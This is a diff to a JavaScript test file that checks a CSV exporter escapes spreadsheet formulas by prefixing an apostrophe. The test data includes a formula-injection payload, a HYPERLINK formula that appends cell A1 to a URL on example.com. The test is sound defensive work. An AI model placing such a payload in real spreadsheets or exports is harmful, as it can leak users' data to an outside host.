@@ -1,7 +1,7 @@
 // Image names and other text of an archive that has a special meaning where it is printed.
 import * as assert from 'uvu/assert';
 import { imageInspect, outputFor, readArchive } from '../../src/commands.js';
-import { FINDINGS_EXTENSIONS, OUTPUT_EXTENSIONS } from '../../src/format/outputs.js';
+import { FINDINGS_EXTENSIONS, OUTPUT_EXTENSIONS, piecesIn } from '../../src/format/outputs.js';
 import { toText } from '../../src/format/text.js';
 import { visible } from '../../src/visible.js';
 import { askedOf, checkCommands, EVERYTHING, REPORTS } from '../property/commands.js';
@@ -236,9 +236,15 @@ export const output: Chapter = {
       },
     ),
     proved(
-      'Formulas in a CSV file',
-      'There is no CSV output: reports are HTML, Markdown, JSON or text.',
-      () => assert.equal([...OUTPUT_EXTENSIONS], ['.html', '.md', '.json', '.txt']),
+      'A formula as a name, in the CSV of `merge`',
+      'The cell begins with an apostrophe, so that spreadsheets show it as text; no other output is a sheet.',
+      () => {
+        assert.equal([...OUTPUT_EXTENSIONS], ['.html', '.md', '.json', '.txt']);
+        const formula = '=HYPERLINK("http://example.com/?"&A1)';
+        const table = { columns: ['path'], rows: [[formula]] };
+        const csv = [...piecesIn('csv')({ data: null, doc: [], exitCode: 0, table })].join('');
+        assert.is(csv, `path\r\n"'${formula.replaceAll('"', '""')}"\r\n`);
+      },
     ),
   ],
 };
